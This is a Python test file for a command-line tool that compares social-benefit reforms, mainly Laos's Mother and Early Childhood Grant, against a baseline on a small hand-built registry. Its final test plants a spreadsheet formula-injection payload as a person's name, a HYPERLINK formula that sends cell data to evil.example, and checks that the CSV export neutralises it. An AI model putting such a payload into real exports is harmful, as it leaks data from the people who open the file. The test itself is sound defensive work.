"""``laosp.rules.diff`` and ``laosp rules diff``: a reform compared with the base on a
small registry worked out by hand.

The registry (evaluated on 1 July 2025, the reform from the same day: 6 months this year;
MECG pays 150,000 LAK a month to pregnant women from the 4th month and to children
under 12 months in its pilot districts 1703, 1705 and 1306):

- H1, Sanamxay (1703): P1 pregnant, 5th month (qualifies); P2 born 1 January 2025
  (6 months: qualifies); P3 born 1 January 2024 (18 months: does not).
- H2, Phouvong (1705): P4 born 1 June 2024 (13 months: does not); P5 pregnant, 3rd
  month (does not).
- H3, Chanthabouly (0101, no MECG): P6 born 1 May 2025 (2 months: not a pilot district).
"""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from typer.testing import CliRunner

from laosp.cli import _register_domains, app
from laosp.db import make_engine, unit_of_work
from laosp.demo import load_examples
from laosp.registry.snapshot import load_snapshot
from laosp.rules.diff import (
    changed_schemes,
    columns_to_read,
    compare,
    months_this_year,
    parse_assignments,
    with_reform,
)
from laosp.rules.errors import PackError
from laosp.rules.pack import BUNDLED, Pack, load_pack

AT = dt.date(2025, 7, 1)


@pytest.fixture(scope="module")
def pack() -> Pack:
    return load_pack()


def _registry() -> tuple[pl.DataFrame, pl.DataFrame]:
    households = pl.DataFrame(
        {"household_id": ["H1", "H2", "H3"], "district_code": ["1703", "1705", "0101"]}
    )
    rows: list[tuple[str, str, str, str, str, bool, int | None]] = [
        ("P1", "H1", "head", "F", "1998-04-02", True, 5),
        ("P2", "H1", "child", "M", "2025-01-01", False, None),
        ("P3", "H1", "child", "F", "2024-01-01", False, None),
        ("P4", "H2", "child", "M", "2024-06-01", False, None),
        ("P5", "H2", "head", "F", "2001-02-03", True, 3),
        ("P6", "H3", "child", "F", "2025-05-01", False, None),
    ]
    persons = pl.DataFrame(
        rows,
        schema=[
            "person_id",
            "household_id",
            "relationship",
            "sex",
            "birth_date",
            "pregnant",
            "pregnancy_month",
        ],
        orient="row",
    ).with_columns(pl.col("birth_date").str.to_date())
    return persons, households


def _diff(pack: Pack, overrides: dict[str, Any]) -> Any:
    persons, households = _registry()
    return compare(pack, with_reform(pack, overrides, AT), persons, households, AT, AT)


def _row(frame: pl.DataFrame, district: str, scheme: str = "mecg") -> dict[str, Any]:
    rows = frame.filter(
        (pl.col("district_code") == district) & (pl.col("scheme") == scheme)
    ).to_dicts()
    assert len(rows) == 1, frame
    return rows[0]


def test_a_higher_grant_changes_money_not_eligibility(pack: Pack) -> None:
    result = _diff(pack, {"mecg.benefit_monthly": 200_000})
    # P1 and P2 receive 50,000 more a month; nobody gains or loses the grant
    assert sorted(result.changes["person_id"]) == ["P1", "P2"]
    assert set(result.changes["change"]) == {"more"}
    row = _row(result.summary, "1703")
    assert (row["gainers"], row["losers"], row["amount_changed"]) == (0, 0, 2)
    assert row["money_month"] == 100_000
    assert row["money_this_year"] == 600_000  # July to December
    assert row["money_full_year"] == 1_200_000
    assert result.summary.height == 1  # Phouvong: nobody qualifies either way


def test_an_older_age_limit_adds_children_in_both_districts(pack: Pack) -> None:
    result = _diff(pack, {"mecg.child_age_months_under": 24})
    assert sorted(result.changes["person_id"]) == ["P3", "P4"]  # 18 and 13 months
    for district in ("1703", "1705"):
        row = _row(result.summary, district)
        assert (row["gainers"], row["losers"], row["money_month"]) == (1, 0, 150_000)
    total = result.totals.row(0, named=True)
    assert (total["gainers"], total["money_month"], total["money_full_year"]) == (
        2,
        300_000,
        3_600_000,
    )


def test_a_younger_age_limit_and_a_higher_grant_together(pack: Pack) -> None:
    result = _diff(pack, {"mecg.child_age_months_under": 6, "mecg.benefit_monthly": 200_000})
    # P2 (6 months) no longer qualifies: -150,000; P1 receives 50,000 more
    changes = {r["person_id"]: r for r in result.changes.iter_rows(named=True)}
    assert changes["P2"]["change"] == "loses"
    assert (changes["P2"]["amount_before"], changes["P2"]["amount_after"]) == (150_000, 0)
    assert (changes["P1"]["amount_before"], changes["P1"]["amount_after"]) == (150_000, 200_000)
    row = _row(result.summary, "1703")
    assert (row["gainers"], row["losers"], row["amount_changed"]) == (0, 1, 1)
    assert row["money_month"] == -100_000
    assert row["money_this_year"] == -600_000


def test_a_second_pack_folder(pack: Pack, tmp_path: Path) -> None:
    folder = tmp_path / "reform"
    shutil.copytree(BUNDLED, folder)
    file = folder / "parameters" / "mecg.yaml"
    text = file.read_text(encoding="utf-8")
    old = (
        "    - {date: 2021-06-18, value: 150000, status: confirmed, "
        'reference: "UNICEF Lao PDR press release, 2021"}\n'
    )
    assert old in text
    new = (
        old + '    - {date: 2025-07-01, value: 200000, status: illustrative, reference: "a test"}\n'
    )
    file.write_text(text.replace(old, new), encoding="utf-8")
    persons, households = _registry()
    result = compare(pack, load_pack(folder), persons, households, AT, AT)
    row = _row(result.summary, "1703")
    assert (row["gainers"], row["amount_changed"], row["money_month"]) == (0, 2, 100_000)


def test_only_the_schemes_a_reform_touches_are_evaluated(pack: Pack) -> None:
    assert changed_schemes(pack, pack) == []
    assert changed_schemes(pack, with_reform(pack, {"mecg.benefit_monthly": 1}, AT)) == ["mecg"]
    touched = changed_schemes(pack, with_reform(pack, {"nssf.private.rate_employee": 0.1}, AT))
    assert "nssf_private" in touched
    assert not set(touched) & {"mecg", "cct", "child_grant", "social_pension"}


@given(benefit=st.integers(0, 2_000_000), age=st.integers(0, 60))
def test_reversing_a_reform_swaps_gainers_and_losers(benefit: int, age: int) -> None:
    pack = load_pack()
    reform = with_reform(
        pack, {"mecg.benefit_monthly": benefit, "mecg.child_age_months_under": age}, AT
    )
    persons, households = _registry()
    there = compare(pack, reform, persons, households, AT, AT).totals
    back = compare(reform, pack, persons, households, AT, AT).totals
    assert there["gainers"].to_list() == back["losers"].to_list()
    assert there["losers"].to_list() == back["gainers"].to_list()
    assert there["money_month"].to_list() == [-m for m in back["money_month"]]
    # by hand: the grant goes to P1 and to the children under ``age`` months among
    # P2 (6), P4 (13) and P3 (18) in the pilot districts; P6 (2) is outside them
    children = sum(1 for months in (6, 13, 18) if months < age)
    expected = (1 + children) * benefit - 2 * 150_000
    assert sum(there["money_month"]) == expected


def test_no_change_gives_empty_frames(pack: Pack) -> None:
    result = _diff(pack, {"mecg.benefit_monthly": 150_000})
    assert result.changes.is_empty()
    assert result.summary.is_empty()


@pytest.mark.parametrize(
    ("start", "months"),
    [
        (dt.date(2025, 1, 1), 12),
        (dt.date(2025, 3, 15), 9),
        (dt.date(2025, 7, 1), 6),
        (dt.date(2025, 12, 1), 1),
        (dt.date(2025, 12, 31), 0),
    ],
)
def test_months_this_year(start: dt.date, months: int) -> None:
    assert months_this_year(start) == months


@pytest.mark.parametrize(
    ("assignment", "message"),
    [
        ("mecg.nope=1", "[mecg.nope]: unknown parameter; parameters of mecg:"),
        ("mecg.benefit_monthly=abc", "bad value 'abc': expected an integer (LAK/month)"),
        ("mecg.benefit_monthly", "is not NAME=VALUE"),
    ],
)
def test_bad_assignments(pack: Pack, assignment: str, message: str) -> None:
    with pytest.raises(PackError) as error:
        parse_assignments(pack, [assignment])
    assert message in str(error.value)


def test_assignments_are_typed_by_the_parameter(pack: Pack) -> None:
    parsed = parse_assignments(
        pack, ["mecg.benefit_monthly=200000", "mecg.districts=1703,1705,1306,0101"]
    )
    assert parsed == {
        "mecg.benefit_monthly": 200_000,
        "mecg.districts": ["1703", "1705", "1306", "0101"],
    }


def test_negative_and_mistyped_overrides_are_refused(pack: Pack) -> None:
    with pytest.raises(PackError, match="must not be negative"):
        with_reform(pack, {"mecg.benefit_monthly": -1}, AT)
    with pytest.raises(PackError, match="override has type float, the parameter holds int"):
        with_reform(pack, {"mecg.benefit_monthly": 200_000.5}, AT)
    with pytest.raises(PackError, match="is not a number, text or boolean"):
        with_reform(pack, {"mecg.benefit_monthly": [1]}, AT)


# --- the command, on a database (the example households) ---------------------------


@pytest.fixture(scope="module")
def runner() -> CliRunner:
    _register_domains()
    return CliRunner()


@pytest.fixture
def examples_url(db_url: str) -> str:
    engine = make_engine(db_url)
    with unit_of_work(engine) as session:
        load_examples(session)
    engine.dispose()
    return db_url


DIFF = ["rules", "diff", "--from", "2025-06-01", "--date", "2025-06-30"]
REFORM = ["--set", "mecg.benefit_monthly=200000", "--set", "mecg.child_age_months_under=24"]


def test_command_summary_and_list(runner: CliRunner, examples_url: str) -> None:
    # EX-AT-0003 in Sanamxay (1703): the mother, pregnant in her 5th month, receives
    # 50,000 more; her daughter born 10 January 2024 (17 months on 30 June) gains the
    # grant at 200,000. 7 months from 1 June.
    result = runner.invoke(app, [*DIFF, *REFORM, "--db", examples_url, "-f", "json"])
    assert result.exit_code == 0, result.output
    body = json.loads(result.output)
    assert body["months_this_year"] == 7
    [row] = body["summary"]
    assert row["district_name_en"] == "Sanamxay"
    assert row["province_name_en"] == "Attapeu"
    assert row["scheme_name_en"] == "Mother and Early Childhood Grant"
    assert (row["gainers"], row["losers"], row["amount_changed"]) == (1, 0, 1)
    assert (row["money_month"], row["money_this_year"], row["money_full_year"]) == (
        250_000,
        1_750_000,
        3_000_000,
    )
    table = runner.invoke(app, [*DIFF, *REFORM, "--db", examples_url, "--lang", "lo"])
    assert table.exit_code == 0, table.output
    assert "ສະໜາມໄຊ" in table.output
    assert "250.000 ກີບ" in table.output
    listed = runner.invoke(
        app, [*DIFF, *REFORM, "--db", examples_url, "--district", "1703", "--list", "-f", "csv"]
    )
    assert listed.exit_code == 0, listed.output
    lines = listed.output.strip().splitlines()
    assert len(lines) == 3
    assert any("EX-AT-0003-3" in line and "ນ້ອຍ" in line and ",gains," in line for line in lines)
    assert any("EX-AT-0003-2" in line and "ຄຳລາ" in line and ",more," in line for line in lines)


def test_command_carries_the_reform_to_2030(runner: CliRunner, examples_url: str) -> None:
    # the projection reads the grant's amount from the pack: from 2026 (whole years after
    # the 1 June 2025 start) MECG costs 200,000 / 150,000 = 4/3 of the default scenario's
    reform = [*DIFF, "--set", "mecg.benefit_monthly=200000", "--db", examples_url]
    result = runner.invoke(app, [*reform, "--projection", "-f", "json"])
    assert result.exit_code == 0, result.output
    years = {row["year"]: row for row in json.loads(result.output)["projection"]}
    assert {row["scheme"] for row in years.values()} == {"mecg"}
    assert max(years) == 2030
    for year in range(2026, 2031):
        assert years[year]["cost_after"] * 3 == pytest.approx(years[year]["cost_before"] * 4)
        assert years[year]["change"] == years[year]["cost_after"] - years[year]["cost_before"]
    table = runner.invoke(app, [*reform, "--projection"])
    assert table.exit_code == 0, table.output
    assert "Projection to 2030" in table.output
    assert "Mother and Early Childhood Grant" in table.output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--set", "mecg.nope=1"], "unknown parameter"),
        (["--set", "mecg.benefit_monthly=abc"], "bad value 'abc'"),
        (["--set", "mecg.benefit_monthly=1", "--district", "9999"], "unknown district '9999'"),
        (["--set", "mecg.benefit_monthly=1", "--list"], "--list needs --district"),
        ([], "give either --reform-pack DIR or --set"),
        (["--reform-pack", "/nonexistent"], "not a policy pack"),
        (["--set", "mecg.benefit_monthly=1", "--from", "2025-13-01"], "--from"),
        (["--set", "mecg.benefit_monthly=1", "--date", "2025-05-01"], "before the reform starts"),
    ],
)
def test_command_errors(runner: CliRunner, args: list[str], message: str) -> None:
    result = runner.invoke(app, [*DIFF, *args, "--db", "sqlite:///:memory:"])
    assert result.exit_code == 2, result.output
    assert message in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    "overrides",
    [
        {"mecg.benefit_monthly": 200_000},
        {"mecg.child_age_months_under": 24},
        {"nssf.ceiling": 3_000_000},
        {"cct.benefit_monthly": 300_000},
    ],
    ids=["mecg-amount", "mecg-age", "nssf-ceiling", "cct-amount"],
)
def test_reading_only_the_fields_a_reform_reads_changes_nothing(
    examples_url: str, overrides: dict[str, Any]
) -> None:
    """The command reads the columns the changed schemes read (``columns_to_read``);
    its result is the one the whole registry gives."""
    base = load_pack()
    start = dt.date(2025, 6, 1)
    reform = with_reform(base, overrides, start)
    engine = make_engine(examples_url)
    try:
        whole = load_snapshot(engine, tables=("persons", "households"))
        few = load_snapshot(
            engine, tables=("persons", "households"), only=columns_to_read(base, reform)
        )
    finally:
        engine.dispose()
    assert few.persons.width < whole.persons.width
    at = dt.date(2025, 6, 30)
    full = compare(base, reform, whole.persons, whole.households, at, start)
    part = compare(base, reform, few.persons, few.households, at, start)
    if "mecg.benefit_monthly" in overrides or "mecg.child_age_months_under" in overrides:
        assert part.changes.height > 0  # the examples' Sanamxay household (see above)
    assert part.changes.sort(pl.all()).equals(full.changes.sort(pl.all()))
    assert part.summary.sort(pl.all()).equals(full.summary.sort(pl.all()))


def test_a_past_date_reads_every_field(examples_url: str) -> None:
    engine = make_engine(examples_url)
    try:
        with pytest.raises(ValueError, match="give all columns"):
            load_snapshot(engine, only={"persons": {"sex"}}, at=dt.date(2025, 1, 1))
    finally:
        engine.dispose()


def test_the_named_csv_never_carries_a_formula(runner: CliRunner, examples_url: str) -> None:
    """A name registered as a formula is written as text (a leading apostrophe)."""
    engine = make_engine(examples_url)
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE persons SET given_name = :name WHERE person_id = 'EX-AT-0003-3'"),
            {"name": '=HYPERLINK("http://evil.example/?"&C2,"Click")'},
        )
    engine.dispose()
    listed = runner.invoke(
        app, [*DIFF, *REFORM, "--db", examples_url, "--district", "1703", "--list", "-f", "csv"]
    )
    assert listed.exit_code == 0, listed.output
    [row] = [line for line in listed.output.splitlines() if "EX-AT-0003-3" in line]
    assert "'=HYPERLINK(" in row
    assert ',"=HYPERLINK' not in row
    assert ",=HYPERLINK" not in row
